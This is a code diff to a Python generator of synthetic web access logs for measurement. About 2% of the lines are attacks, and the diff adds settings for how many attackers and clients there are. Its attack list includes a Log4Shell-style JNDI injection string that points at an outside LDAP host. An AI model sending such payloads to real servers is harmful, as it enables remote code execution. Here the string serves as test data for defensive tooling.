@@ -1,4 +1,8 @@
-"""Lines to measure with: a combined log of about 233 bytes a line, 2 % of it attacks. Same seed, same bytes."""
+"""Lines to measure with: a combined log of about 233 bytes a line, 2 % of it attacks. Same seed, same bytes.
+
+Two hundred attackers open hundreds of incidents, and who writes incidents pays for them: ``FEW`` is a log of a day with
+as many attacks by few.
+"""
 
 import random
 from collections.abc import Iterator
@@ -19,10 +23,17 @@ _ATTACKS = (
     "/?x=${jndi:ldap://198.51.100.9/a}",
 )
 START = datetime(2026, 3, 2, 6, 0, tzinfo=UTC)
+PEOPLE = 120
+FEW = {"attackers": 20, "clients": 5_000}
 
 
-def lines(count: int, seed: int = 1, *, each: float = 0.05) -> Iterator[str]:
-    """Yield ``count`` lines in time order, ``each`` seconds apart on average."""
+def lines(
+    count: int, seed: int = 1, *, each: float = 0.05, attackers: int = 200, clients: int = 36_000
+) -> Iterator[str]:
+    """Yield ``count`` lines in time order, ``each`` seconds apart on average.
+
+    Attackers send 2 % of them; people, each with a part of the clients, the others.
+    """
     dice = random.Random(seed)
     moment = START
     for _ in range(count):
@@ -30,12 +41,12 @@ def lines(count: int, seed: int = 1, *, each: float = 0.05) -> Iterator[str]:
         stamp = moment.strftime("%d/%b/%Y:%H:%M:%S +0000")
         agent = dice.choice(_AGENTS)
         if dice.random() < 0.02:
-            address, name, path = f"203.0.113.{dice.randrange(200)}", "-", dice.choice(_ATTACKS)
+            address, name, path = f"203.0.113.{dice.randrange(attackers)}", "-", dice.choice(_ATTACKS)
             status, size = dice.choice((403, 404, 200)), dice.randrange(150, 900)
         else:
-            person = dice.randrange(120)
-            address, name = f"192.0.2.{person % 120}", f"op.{person:03d}"
-            client = person * 300 + int(abs(dice.gauss(0, 80)))
+            person = dice.randrange(PEOPLE)
+            address, name = f"192.0.2.{person}", f"op.{person:03d}"
+            client = (person * (clients // PEOPLE) + int(abs(dice.gauss(0, 80)))) % clients
             path = dice.choice(
                 (f"/crm/clients/{client}", f"/crm/clients/{client}/documents/{client}1", "/crm/static/app.js")
             )
@@ -46,9 +57,9 @@ def lines(count: int, seed: int = 1, *, each: float = 0.05) -> Iterator[str]:
         )
 
 
-def write(path: Path, count: int, seed: int = 1) -> Path:
-    """Write the log, once."""
+def write(path: Path, count: int, seed: int = 1, **shape: int) -> Path:
+    """Write the log, once; ``shape`` as for ``lines``."""
     if not path.exists():
         with path.open("w", encoding="utf-8") as out:
-            out.writelines(line + "\n" for line in lines(count, seed))
+            out.writelines(line + "\n" for line in lines(count, seed, **shape))
     return path
